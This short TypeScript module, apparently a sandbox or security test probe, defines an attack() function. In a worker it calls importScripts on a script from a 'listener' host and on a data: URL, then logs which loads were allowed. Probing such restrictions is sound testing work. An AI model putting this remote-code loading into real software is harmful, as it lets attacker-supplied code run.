import { listener } from "./listener";

/** Code from elsewhere, as workers did before modules. */
export async function attack() {
  let arrived = "";
  for (const url of [`${listener}/scripts.js`, "data:text/javascript,self.arrived=1"]) {
    try {
      (self as any).importScripts(url);
      arrived += url;
    } catch {
      // Refused.
    }
  }
  console.log(`arrived: ${arrived}`);
}
